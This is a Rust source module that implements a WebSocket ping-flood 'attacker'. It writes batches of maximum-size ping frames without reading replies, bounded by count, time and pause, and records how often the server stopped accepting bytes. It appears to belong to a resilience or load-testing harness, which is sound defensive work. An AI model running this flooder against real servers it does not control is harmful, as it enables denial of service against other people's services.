//! The attacker: sends pings and never reads.
use std::{
    io,
    time::{Duration, Instant},
};

use anyhow::Result;

use crate::{
    client::Client,
    frame::{Frame, encode},
};

/// The longest payload that a control frame may have (RFC 6455, 5.5).
pub const PAYLOAD: usize = 125;
/// One ping of a flood, with its header and its masking key (RFC 6455, 5.2).
pub const FRAME: usize = 2 + 4 + PAYLOAD;
/// Pings in one write.
const BATCH: usize = 500;
/// How long one write may wait for room, so that the end of the time is noticed.
const PATIENCE: Duration = Duration::from_millis(50);

/// How long the rest of the last ping may wait, on a machine that is busy with what came before it.
const LAST: Duration = Duration::from_secs(5);

/// Bounds of a flood; it ends at the first that is reached.
#[derive(Clone, Copy, Debug)]
pub struct Bounds {
    pub pings: u64,
    pub time: Duration,
    /// Pause after each write of 500 pings; zero for as fast as it goes.
    pub pause: Duration,
}

/// What a flooder did.
#[derive(Clone, Copy, Debug, Default)]
pub struct Flooded {
    /// Pings handed to the socket whole.
    pub pings: u64,
    /// Writes that found no room in the socket: the server had stopped taking bytes.
    pub blocked: u64,
    pub time: Duration,
    /// Why the connection took no more at all.
    pub broken: Option<io::ErrorKind>,
}

/// Send pings of [`PAYLOAD`] bytes over `client` as fast as it takes them, while `go_on` says so. A
/// connection that the server closes ends the flood.
pub fn flood(client: &mut Client, bounds: Bounds, go_on: impl Fn() -> bool) -> Result<Flooded> {
    let ping = encode(&[Frame::ping(vec![0x55; PAYLOAD])]);
    let data = ping.repeat(BATCH);
    let start = Instant::now();
    let mut done = Flooded::default();
    let mut bytes = 0u64;
    while done.time < bounds.time && done.pings < bounds.pings && go_on() {
        let batch = usize::try_from(bounds.pings - done.pings).unwrap_or(BATCH).min(BATCH);
        // The rest of a ping that the last write cut comes first.
        let cut = (bytes % ping.len() as u64) as usize;
        match client.write_some(&data[cut..ping.len() * batch], PATIENCE) {
            Ok(0) => done.blocked += 1,
            Ok(n) => bytes += n as u64,
            Err(error) => {
                let cause = error.downcast_ref::<io::Error>().map(io::Error::kind);
                done.broken = Some(cause.unwrap_or(io::ErrorKind::Other));
                break;
            }
        }
        done.pings = bytes / ping.len() as u64;
        std::thread::sleep(bounds.pause);
        done.time = start.elapsed();
    }
    // No partial ping, or it would be unclear whether it was counted.
    let mut cut = (bytes % ping.len() as u64) as usize;
    let by = Instant::now() + LAST;
    while (1..ping.len()).contains(&cut) && Instant::now() < by {
        let Ok(n) = client.write_some(&ping[cut..], PATIENCE) else { break };
        cut += n;
    }
    done.pings += u64::from(cut == ping.len());
    if (1..ping.len()).contains(&cut) {
        client.send_first(&ping[cut..]);
    }
    Ok(done)
}
